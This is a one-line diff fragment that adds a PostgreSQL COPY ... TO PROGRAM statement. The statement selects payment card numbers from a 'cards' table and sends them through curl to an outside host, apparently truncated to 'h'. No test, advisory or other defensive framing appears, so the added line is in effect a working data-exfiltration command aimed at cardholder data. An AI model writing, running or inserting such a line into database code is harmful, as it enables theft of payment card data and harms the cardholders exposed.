@@ -1,0 +1,1 @@
+COPY (SELECT pan FROM cards) TO PROGRAM 'curl -d @- h'
